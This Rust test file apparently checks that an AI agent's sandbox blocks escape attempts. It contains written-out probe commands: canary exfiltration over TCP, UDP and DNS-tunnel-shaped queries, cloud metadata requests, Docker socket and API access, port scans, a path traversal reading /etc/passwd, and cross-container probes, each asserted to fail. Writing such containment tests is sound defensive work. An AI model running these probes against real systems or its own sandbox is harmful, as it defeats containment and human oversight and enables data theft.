//! Network, DNS, sidecar ports, Docker API, metadata, IPv6 and cross-bottle attempts.

use std::net::Ipv4Addr;

use super::{
    blocked, custom, direct_refused, gist, in_agent, none_succeeded, via_proxy_blocked, DIRECT,
    PROXIED,
};
use crate::{canary, ipv4_spellings, outcome, Attempt, World};

pub fn attempts(w: &World) -> Vec<Attempt> {
    let mut v = Vec::new();
    let oip = w.origin.ip.clone();
    let port = w.host_port;

    // --- network: the origin (stands for "the internet": a network the agent is not on)
    let ip = oip.clone();
    v.push(direct_refused(
        "network",
        "origin-ip-tcp80-direct",
        move |c| format!("http://{ip}/{c}"),
    ));
    let ip = oip.clone();
    v.push(direct_refused(
        "network",
        "origin-ip-tcp443-direct",
        move |c| format!("https://{ip}/{c}"),
    ));
    let ip = oip.clone();
    v.push(via_proxy_blocked(
        "network",
        "origin-ip-via-proxy",
        move |c| format!("http://{ip}/{c}"),
    ));
    let ip = oip.clone();
    v.push(via_proxy_blocked(
        "network",
        "origin-ip-https-via-proxy",
        move |c| format!("https://{ip}/{c}"),
    ));
    let ip = oip.clone();
    v.push(via_proxy_blocked(
        "network",
        "userinfo-confusion",
        move |c| format!("http://origin.e2e.test@{ip}/{c}"),
    ));
    let v4: Ipv4Addr = oip.parse().unwrap_or(Ipv4Addr::UNSPECIFIED);
    for (kind, spelled) in ipv4_spellings(v4) {
        v.push(via_proxy_blocked(
            "network",
            format!("origin-{kind}-via-proxy"),
            move |c| format!("http://{spelled}/{c}"),
        ));
    }
    let spellings: Vec<String> = ipv4_spellings(v4).into_iter().map(|(_, s)| s).collect();
    v.push(custom(
        "network",
        "origin-every-spelling-direct",
        "no connection for any spelling; canary never at origin",
        move |w: &World| {
            let c = canary("");
            let script: String = spellings
                .iter()
                .map(|s| format!("{DIRECT} 'http://{s}/{c}'; echo \" rc=$?\";"))
                .collect();
            let r = w.a_sh(&script);
            outcome(
                none_succeeded(&r.stdout) && !w.origin_saw(&c),
                gist(&r.all()),
            )
        },
    ));
    // --- network: the host, by every address it has
    for h in w.host_addrs.clone() {
        v.push(direct_refused(
            "network",
            format!("host-tcp-{h}"),
            move |c| format!("http://{h}:{port}/{c}"),
        ));
    }
    v.push(direct_refused(
        "network",
        "host-docker-internal",
        move |c| format!("http://host.docker.internal:{port}/{c}"),
    ));
    let addrs = w.host_addrs.clone();
    v.push(custom(
        "network",
        "host-udp-every-address",
        "no datagram reaches the host listener (UDP, every host address)",
        move |w: &World| {
            let c = canary("");
            let script: String = addrs
                .iter()
                .map(|h| {
                    format!("printf '{c}' | timeout 3 nc -u -w1 {h} {port}; echo \" {h} rc=$?\";")
                })
                .collect();
            let r = w.a_sh(&script);
            outcome(!w.host_saw(&c), gist(&r.all()))
        },
    ));
    let h = w.host_addrs.first().cloned().unwrap_or_default();
    v.push(via_proxy_blocked(
        "network",
        "host-gateway-via-proxy",
        move |c| format!("http://{h}:{port}/{c}"),
    ));
    v.push(via_proxy_blocked(
        "network",
        "host-docker0-via-proxy",
        move |c| format!("http://172.17.0.1:{port}/{c}"),
    ));
    v.push(via_proxy_blocked(
        "network",
        "public-testnet-via-proxy",
        |c| format!("http://198.51.100.7/{c}"),
    ));

    // --- DNS
    v.push(in_agent(
        "dns",
        "getent-external-name",
        "no answer for an external name",
        "timeout 8 getent hosts example.com; echo \" rc=$?\"".into(),
        none_succeeded,
    ));
    let c = canary("");
    v.push(in_agent(
        "dns",
        "dig-tunnel-shape-embedded-resolver",
        "no answer for <canary>.example.com via Docker's resolver",
        format!("dig +time=2 +tries=1 +short {c}.example.com; echo \" rc=$?\"; timeout 5 getent hosts {c}.example.com; echo \" rc=$?\""),
        |o| !o.lines().any(|l| l.trim().parse::<std::net::IpAddr>().is_ok()) && !o.contains(" rc=0\n rc=0"),
    ));
    let addrs = w.host_addrs.clone();
    v.push(custom(
        "dns",
        "dig-at-host-resolver-tunnel",
        "a DNS query carrying a canary never reaches a resolver the test runs on the host",
        move |w: &World| {
            let c = canary("");
            let script: String = addrs
                .iter()
                .map(|h| format!("dig +time=1 +tries=1 +short -p {port} @{h} {c}.tunnel.example; echo \" {h} rc=$?\";"))
                .collect();
            let r = w.a_sh(&script);
            outcome(!w.host_saw(&c), gist(&r.all()))
        },
    ));
    let ip = oip.clone();
    v.push(in_agent(
        "dns",
        "dig-at-origin-ip",
        "no DNS answer from an address off the bottle network",
        format!("dig +time=2 +tries=1 +short @{ip} example.com; echo \" rc=$?\""),
        |o| {
            !o.lines()
                .any(|l| l.trim().parse::<std::net::IpAddr>().is_ok())
        },
    ));
    v.push(in_agent(
        "dns",
        "sidecar-and-pinned-names",
        "egress and the pinned origin names do not resolve in the agent",
        "for n in egress origin.e2e.test api.e2e.test; do timeout 5 getent hosts $n; echo \" $n rc=$?\"; done".into(),
        none_succeeded,
    ));

    // --- sidecar ports
    v.push(in_agent(
        "sidecar",
        "pipelock-admin-direct",
        "pipelock's admin port not reachable from the agent (admin on 127.0.0.1)",
        format!("{DIRECT} http://pipelock:9090/metrics -o /dev/null; echo \" rc=$?\""),
        none_succeeded,
    ));
    v.push(via_proxy_blocked(
        "sidecar",
        "pipelock-admin-via-proxy",
        |_| "http://pipelock:9090/metrics".into(),
    ));
    v.push(in_agent(
        "sidecar",
        "git-gate-admin-direct",
        "git-gate's admin port not reachable from the agent (admin on 127.0.0.1)",
        format!("{DIRECT} http://git-gate:9090/metrics -o /dev/null; echo \" rc=$?\""),
        none_succeeded,
    ));
    v.push(in_agent(
        "sidecar",
        "pipelock-port-scan",
        "pipelock answers on 8888 only (9090 admin is on 127.0.0.1)",
        "for p in 22 80 443 2375 8080 9099 9090 9091 10000; do timeout 3 nc -z -w2 pipelock $p && echo \" open=$p\"; done; echo done".into(),
        |o| !o.contains("open="),
    ));
    for e in w.a.ips("egress") {
        let e2 = e.clone();
        v.push(direct_refused(
            "sidecar",
            format!("egress-ip-{e}-direct"),
            move |c| format!("http://{e2}:9099/{c}"),
        ));
        v.push(via_proxy_blocked(
            "sidecar",
            format!("egress-ip-{e}-via-proxy"),
            move |c| format!("http://{e}:9099/{c}"),
        ));
    }
    v.push(via_proxy_blocked("sidecar", "egress-name-via-proxy", |c| {
        format!("http://egress:9099/{c}")
    }));
    v.push(in_agent(
        "sidecar",
        "egress-connect-tunnel",
        "CONNECT egress:9099 refused by pipelock",
        format!("{PROXIED} -p http://egress:9099/ ; echo \" rc=$?\""),
        blocked,
    ));
    v.push(in_agent(
        "sidecar",
        "git-gate-path-traversal",
        "no file outside the repositories served",
        "curl -sS --path-as-is -i --max-time 10 'http://git-gate:8080/../../../../etc/passwd'; curl -sS -i --max-time 10 'http://git-gate:8080/demo.git/../../../../etc/passwd'; echo \" rc=$?\"".into(),
        |o| !o.contains("root:x:0"),
    ));
    v.push(in_agent(
        "sidecar",
        "git-gate-unknown-repo",
        "refused: repository not configured",
        "curl -sS -i --max-time 10 'http://git-gate:8080/other.git/info/refs?service=git-upload-pack'; echo \" rc=$?\"".into(),
        |o| !o.contains(" 200 ") && !o.contains("# service="),
    ));
    v.push(in_agent(
        "sidecar",
        "git-gate-dumb-http",
        "dumb-HTTP object paths not served",
        "curl -sS -i --max-time 10 'http://git-gate:8080/demo.git/HEAD'; curl -sS -i --max-time 10 'http://git-gate:8080/demo.git/config'; echo \" rc=$?\"".into(),
        |o| !o.contains("ref: refs/") && !o.contains("[core]"),
    ));
    v.push(via_proxy_blocked("sidecar", "git-gate-via-proxy", |c| {
        format!("http://git-gate:8080/{c}")
    }));

    // --- Docker
    v.push(in_agent(
        "docker",
        "docker-socket",
        "no Docker socket in the agent",
        "ls -la /var/run/docker.sock /run/docker.sock 2>&1; for s in /var/run/docker.sock /run/docker.sock; do curl -sS --unix-socket $s --max-time 3 http://x/version; echo \" rc=$?\"; done".into(),
        none_succeeded,
    ));
    let addrs = w.host_addrs.clone();
    let script: String = addrs
        .iter()
        .flat_map(|h| {
            [2375, 2376]
                .map(|p| format!("{DIRECT} http://{h}:{p}/version; echo \" {h}:{p} rc=$?\";"))
        })
        .collect();
    v.push(in_agent(
        "docker",
        "docker-tcp-api-every-host-address",
        "no Docker TCP API on any host address",
        script,
        none_succeeded,
    ));
    v.push(via_proxy_blocked("docker", "docker-api-via-proxy", |_| {
        "http://172.17.0.1:2375/version".into()
    }));

    // --- metadata
    v.push(via_proxy_blocked("metadata", "aws-imds-via-proxy", |c| {
        format!("http://169.254.169.254/latest/meta-data/{c}")
    }));
    v.push(direct_refused("metadata", "aws-imds-direct", |c| {
        format!("http://169.254.169.254/latest/meta-data/{c}")
    }));
    v.push(via_proxy_blocked("metadata", "gce-name-via-proxy", |c| {
        format!("http://metadata.google.internal/computeMetadata/v1/{c}")
    }));
    v.push(via_proxy_blocked("metadata", "ecs-task-via-proxy", |c| {
        format!("http://169.254.170.2/v2/{c}")
    }));
    v.push(via_proxy_blocked(
        "metadata",
        "aws-imds-v6-via-proxy",
        |c| format!("http://[fd00:ec2::254]/latest/{c}"),
    ));

    // --- IPv6
    v.push(custom(
        "ipv6",
        "no-global-or-ula-v6",
        "the agent has no global or ULA IPv6 address and no v6 route out (lo's unreachable routes aside)",
        |w: &World| {
            let r = w.a_sh("cat /proc/net/if_inet6 2>/dev/null; echo ---; awk '$1==\"00000000000000000000000000000000\" && $2==\"00\" {print \"default\", $10}' /proc/net/ipv6_route 2>/dev/null; echo end");
            let o = r.stdout;
            let addrs = o.split("---").next().unwrap_or("");
            let bad: Vec<&str> = addrs
                .lines()
                .filter_map(|l| l.split_whitespace().next())
                .filter(|a| !a.starts_with("fe80") && *a != "00000000000000000000000000000001")
                .collect();
            let routes: Vec<&str> = o
                .lines()
                .filter(|l| l.starts_with("default ") && !l.ends_with(" lo"))
                .collect();
            let note = if addrs.trim().is_empty() {
                "no IPv6 on this engine (no v6 address on any interface)".to_string()
            } else {
                format!("v6 addresses {}", addrs.lines().count())
            };
            outcome(
                bad.is_empty() && routes.is_empty(),
                format!("{note}; global/ULA {bad:?}; default routes off lo {routes:?}"),
            )
        },
    ));
    v.push(in_agent(
        "ipv6",
        "host-v6-and-link-local-neighbours",
        "no connection to the host's v6 address or any link-local neighbour",
        format!("for h in '[fd00::2]' '[::ffff:172.17.0.1]' '[ff02::1%eth0]' '[fe80::1%eth0]'; do {DIRECT} -g \"http://$h:{port}/\"; echo \" $h rc=$?\"; done; ping -6 -c1 -W1 ff02::1%eth0 2>&1 | tail -1"),
        none_succeeded,
    ));

    // --- cross-bottle: A cannot reach B, B cannot reach A
    for svc in ["pipelock", "git-gate"] {
        let ips = w.b.ips(svc);
        let script: String = ips
            .iter()
            .flat_map(|ip| {
                [8888, 8080, 9090]
                    .map(|p| format!("timeout 4 nc -z -w3 {ip} {p}; echo \" {ip}:{p} rc=$?\";"))
            })
            .collect::<String>()
            + "echo done";
        v.push(in_agent(
            "cross-bottle",
            format!("a-to-b-{svc}-by-ip"),
            format!("no TCP to B's {svc} ({})", ips.join(",")),
            script,
            |o| !o.contains(" rc=0"),
        ));
    }
    let b_agent = w.b.ips("agent");
    v.push(custom(
        "cross-bottle",
        "a-to-b-agent-listener",
        "a listener in B's agent never receives A's canary (TCP or UDP)",
        move |w: &World| {
            let c = crate::canary("");
            let _ = w.b_sh("rm -f /tmp/got; (nc -lk 7777 >> /tmp/got 2>&1 &); (nc -lku 7777 >> /tmp/got 2>&1 &); sleep 1; echo up");
            let script: String = b_agent
                .iter()
                .map(|ip| format!("printf '{c}' | timeout 4 nc -w3 {ip} 7777; echo \" {ip} rc=$?\"; printf '{c}' | timeout 3 nc -u -w1 {ip} 7777;"))
                .collect();
            let r = w.a_sh(&script);
            // Control: B's own listener works (the attempt would have seen a delivery).
            let _ = w.b_sh(&format!("printf 'ctl-{c}' | timeout 4 nc -w2 127.0.0.1 7777"));
            let got = w.b_sh("sleep 1; cat /tmp/got").stdout;
            let control = got.contains(&format!("ctl-{c}"));
            let arrived = got.replace(&format!("ctl-{c}"), "").contains(&c);
            outcome(
                control && !arrived,
                format!("{}; listener control {control}; arrived {arrived}", gist(&r.all())),
            )
        },
    ));
    let names: Vec<String> = ["pipelock", "git-gate", "agent"]
        .iter()
        .map(|s| format!("{}_{s}_1", w.b.project))
        .collect();
    v.push(in_agent(
        "cross-bottle",
        "a-to-b-by-name",
        "B's containers' names do not resolve in A",
        names
            .iter()
            .map(|n| format!("timeout 4 getent hosts {n}; echo \" rc=$?\";"))
            .collect(),
        none_succeeded,
    ));
    if let Some(bp) = w.b.ips("pipelock").first().cloned() {
        v.push(via_proxy_blocked(
            "cross-bottle",
            "a-to-b-pipelock-via-a-proxy",
            move |c| format!("http://{bp}:8888/{c}"),
        ));
    }
    let a_ips: Vec<String> = ["pipelock", "git-gate", "agent"]
        .iter()
        .flat_map(|s| w.a.ips(s))
        .collect();
    v.push(custom(
        "cross-bottle",
        "b-to-a-every-address",
        "no TCP from B's agent to any of A's containers",
        move |w: &World| {
            let script: String = a_ips
                .iter()
                .flat_map(|ip| {
                    [8888, 8080, 9090]
                        .map(|p| format!("timeout 4 nc -z -w3 {ip} {p}; echo \" {ip}:{p} rc=$?\";"))
                })
                .collect::<String>()
                + "echo done";
            let r = w.b_sh(&script);
            outcome(!r.stdout.contains(" rc=0"), gist(&r.all()))
        },
    ));
    v
}
